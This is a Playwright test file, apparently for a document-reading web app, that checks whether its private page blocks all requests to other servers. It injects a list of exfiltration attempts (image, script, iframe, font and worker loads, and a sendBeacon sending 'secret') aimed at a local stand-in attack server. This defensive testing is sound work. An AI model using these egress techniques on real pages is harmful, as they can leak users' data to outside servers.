/** The private page: everything that needs no other server works there, and the browser lets nothing out to one. */
import type { Page } from '@playwright/test';
import { startAttackServer, type AttackServer } from './support/attack-server';
import { together, waysOut } from './support/attacks';
import { Burrow, expect, repl, test as base } from './support/burrow';
import { NOTES, QUESTION, recursive } from './support/notes';
import { joinOrigins, type OneOrigin } from './support/one-origin';

interface Fixtures {
  /** The app with models of its own origin. */
  readonly home: OneOrigin;
  /** Another server, which nothing may reach. */
  readonly elsewhere: AttackServer;
  /** The app on its private page. */
  readonly hidden: Burrow;
}

const test = base.extend<Fixtures>({
  home: async ({ models, site }, use) => {
    const home = await joinOrigins(site, models.url);
    await use(home);
    await home.close();
  },
  elsewhere: async ({}, use) => {
    const server = await startAttackServer();
    await use(server);
    await server.close();
  },
  hidden: async ({ home, page }, use) => {
    const problems: string[] = [];
    page.on('pageerror', (error) => problems.push(String(error)));
    await use(new Burrow(page, `${home.url}private.html`));
    expect(problems).toEqual([]);
  },
});

/** Elements that load by themselves, and other ways that only a page has. */
const ELEMENTS = [
  `new Image().src = url('image')`,
  `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url('stylesheet') }))`,
  `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url('prefetch') }))`,
  `document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: url('preload') }))`,
  `document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: url('icon') }))`,
  `document.body.append(Object.assign(document.createElement('script'), { src: url('script') }))`,
  `document.body.append(Object.assign(document.createElement('iframe'), { src: url('frame') }))`,
  `document.body.append(Object.assign(document.createElement('video'), { src: url('video') }))`,
  `document.body.append(Object.assign(document.createElement('object'), { data: url('object') }))`,
  `document.body.append(Object.assign(document.createElement('div'), { style: 'background: url(' + url('background') + ')' }))`,
  `new FontFace('f', 'url(' + url('font') + ')').load().catch(() => {})`,
  `navigator.sendBeacon(url('beacon'), 'secret')`,
  `new Worker(url('worker'))`,
];

function elements(target: string): string {
  const each = ELEMENTS.map((element) => `try { ${element} } catch {}`).join(';\n');
  return `const url = (name) => ${JSON.stringify(target)} + '/' + name;\n${each}`;
}

/** A question that the built-in reader can answer, for which documents are read and searched. */
async function askSample(page: Page): Promise<void> {
  await page.getByRole('region', { name: 'Questions to try' }).getByRole('button').first().click();
  await page.getByRole('button', { name: 'Ask', exact: true }).click();
}

/** Everything that hostile code could try in this page and in the app's own worker, which reads the documents. */
async function tryAll(page: Page, { http, ws }: AttackServer): Promise<void> {
  const ways = together(waysOut(http, ws));
  // Before the attempts start workers of their own.
  const workers = page.workers();
  expect(workers).not.toEqual([]);
  for (const worker of workers) await worker.evaluate(`(() => { ${ways} })()`);
  await page.evaluate(`(() => { ${elements(http)} })()`);
  await page.evaluate(`(() => { ${ways} })()`);
}

test('the reader, a corpus of files and Python with a model of the same server all work there', async ({
  elsewhere,
  hidden,
  home,
  models,
  page,
}) => {
  const errors: string[] = [];
  const asked: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') errors.push(message.text());
  });
  page.on('request', (request) => asked.push(request.url()));

  await test.step('the page says what it is, in every view', async () => {
    for (const route of ['#/ask', '#/library', '#/models', '#/runs', '#/settings']) {
      await hidden.open(route);
      await expect(page.getByText('Private page.', { exact: true })).toBeVisible();
      await page.waitForLoadState('networkidle');
    }
  });

  await test.step('the built-in reader answers', async () => {
    await hidden.open();
    await askSample(page);
    await hidden.ended('answered');
    await hidden.answer.getByRole('link').first().click();
    await expect(page.locator('mark')).toBeInViewport();
  });

  await test.step('Python runs, and asks a model', async () => {
    models.script([
      { when: ({ lastUser }) => lastUser === 'Who?', reply: 'Jan Visser' },
      {
        reply: repl('answer["content"] = llm_query("Who?") + " " + cite(context[:42])\nanswer["ready"] = True'),
      },
    ]);
    await hidden.corpus('Notes', [NOTES]);
    await hidden.connect('Planner', `${home.url}v1`);
    await hidden.ask(QUESTION, recursive);
    await hidden.ended('answered');
    await expect(hidden.answer).toContainText('Jan Visser');
    await expect(hidden.answer.getByRole('link', { name: /notes\.txt/ }).first()).toBeVisible();
  });

  await test.step('all of it came from one server', async () => {
    expect(models.requests).toHaveLength(2);
    expect(home.paths).toContain('/private.html');
    expect(home.paths.filter((path) => path.includes('pyodide'))).not.toEqual([]);
    expect(asked.filter((url) => !url.startsWith(home.url) && !/^(?:blob|data):/.test(url))).toEqual([]);
    expect(elsewhere.arrivals()).toEqual([]);
    expect(errors).toEqual([]);
  });

  await test.step('the ordinary page holds the same runs and corpora', async () => {
    await page.getByRole('link', { name: 'Ordinary page' }).first().click();
    await expect(page.getByText('Private page.', { exact: true })).toHaveCount(0);
    await expect(page.getByRole('combobox', { name: 'Corpus' })).toContainText('Notes');
    await page.getByRole('navigation', { name: 'Views' }).getByRole('link', { name: 'Runs' }).click();
    await expect(page.getByRole('list', { name: 'Runs' }).getByRole('listitem')).toHaveCount(2);
  });
});

test('a remote endpoint is not offered there, and the browser refuses it with a plain sentence', async ({
  context,
  elsewhere,
  hidden,
  home,
  page,
}) => {
  const refused: string[] = [];
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) refused.push(message.text());
  });
  const dialog = page.getByRole('dialog', { name: 'Endpoint' });
  const ordinary = new Burrow(page, home.url);
  await ordinary.connect('Somewhere', `${elsewhere.http}/v1`, { key: 'sk-secret' });
  await page.getByRole('button', { name: 'Edit Somewhere' }).click();
  await dialog.getByRole('button', { name: 'Test' }).click();
  await expect.poll(() => elsewhere.arrivals().join()).toContain('/v1/chat/completions');
  expect(refused).toEqual([]);

  await hidden.open('#/ask');
  const before = elsewhere.arrivals().length;
  await page.getByRole('combobox', { name: 'Strategy' }).selectOption({ label: 'Recursive' });
  await expect(page.getByRole('combobox', { name: 'Root model' })).not.toContainText('Somewhere');
  await expect(page.getByRole('combobox', { name: 'Sub-model' })).not.toContainText('Somewhere');

  await hidden.open('#/models');
  await expect(page.getByText('your browser stops every request to another server')).toBeVisible();
  await page.getByRole('button', { name: 'Edit Somewhere' }).click();
  await dialog.getByRole('button', { name: 'Test' }).click();
  await expect(dialog.getByText('This page cannot reach other servers.', { exact: false })).toBeVisible();
  expect(refused.join()).toContain(elsewhere.http);
  await elsewhere.fence(await context.newPage());
  expect(elsewhere.arrivals()).toHaveLength(before);

  await page.keyboard.press('Escape');
  await hidden.open('#/settings');
  await expect(page.getByRole('list', { name: /^Network/ })).toContainText('Nothing of yours was sent anywhere.');
});

test('nothing that runs in the page or in its workers reaches another server', async ({
  context,
  elsewhere,
  hidden,
  home,
  page,
}) => {
  await hidden.open();
  await askSample(page);
  await hidden.ended('answered');
  await tryAll(page, elsewhere);
  await elsewhere.fence(await context.newPage());
  // The address of a frame is connected to before the policy refuses it; no request follows.
  expect(elsewhere.arrivals().filter((what) => what !== 'connection')).toEqual([]);

  await test.step('the same attempts get through on the ordinary page', async () => {
    const other = await context.newPage();
    const ordinary = new Burrow(other, home.url);
    await ordinary.open();
    await askSample(other);
    await ordinary.ended('answered');
    await tryAll(other, elsewhere);
    await elsewhere.fence(await context.newPage());
    const reached = new Set(elsewhere.arrivals().map((what) => what.split('/')[1]));
    for (const way of ['fetch', 'posted', 'import', 'nested', 'image', 'stylesheet', 'beacon', 'script']) {
      expect(reached).toContain(way);
    }
  });
});
